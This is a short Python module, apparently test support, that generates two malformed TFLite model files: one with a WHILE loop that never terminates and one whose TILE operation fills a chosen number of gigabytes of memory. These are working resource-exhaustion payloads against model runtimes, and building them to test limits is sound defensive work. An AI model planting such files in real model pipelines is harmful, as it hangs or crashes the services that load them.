"""TFLite files that harm the process that runs them."""

from __future__ import annotations

from typing import Any

import flatbuffers
from ai_edge_litert import schema_py_generated as schema


def _tensor(name: str, shape: list[int], kind: int, buffer: int = 0) -> Any:
    tensor = schema.TensorT()
    tensor.name, tensor.shape, tensor.type, tensor.buffer = name, shape, kind, buffer
    return tensor


def _graph(tensors: list[Any], inputs: list[int], outputs: list[int], operators: list[Any]) -> Any:
    graph = schema.SubGraphT()
    graph.tensors, graph.inputs, graph.outputs, graph.operators = tensors, inputs, outputs, operators
    return graph


def _pack(graphs: list[Any], code: int, constants: list[bytes]) -> bytes:
    model, operator = schema.ModelT(), schema.OperatorCodeT()
    operator.builtinCode = operator.deprecatedBuiltinCode = code
    operator.version = 1
    model.version, model.subgraphs, model.operatorCodes, model.buffers = 3, graphs, [operator], [schema.BufferT()]
    for constant in constants:
        buffer = schema.BufferT()
        buffer.data = list(constant)
        model.buffers.append(buffer)
    builder = flatbuffers.Builder(1024)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _operator(inputs: list[int], outputs: list[int], kind: int = 0, options: Any = None) -> Any:
    operator = schema.OperatorT()
    operator.inputs, operator.outputs, operator.builtinOptionsType, operator.builtinOptions = inputs, outputs, kind, options
    return operator


def endless_tflite() -> bytes:
    """A loop while its variable, which nothing changes, is true."""
    truth = schema.TensorType.BOOL
    options = schema.WhileOptionsT()
    options.condSubgraphIndex, options.bodySubgraphIndex = 1, 2
    loop = _operator([0], [1], schema.BuiltinOptions.WhileOptions, options)
    main = _graph([_tensor("start", [1], truth, 1), _tensor("end", [1], truth)], [], [1], [loop])
    same = [_graph([_tensor("variable", [1], truth)], [0], [0], []) for _ in range(2)]
    return _pack([main, *same], schema.BuiltinOperator.WHILE, [b"\1"])


def hungry_tflite(gigabytes: int) -> bytes:
    """Repeats one number until it fills that much memory."""
    real, whole = schema.TensorType.FLOAT32, schema.TensorType.INT32
    shape = [gigabytes, 1 << 14, 1 << 14]
    tensors = [_tensor("one", [1, 1, 1], real), _tensor("times", [3], whole, 1), _tensor("all", shape, real)]
    times = b"".join(size.to_bytes(4, "little") for size in shape)
    return _pack([_graph(tensors, [0], [2], [_operator([0, 1], [2])])], schema.BuiltinOperator.TILE, [times])
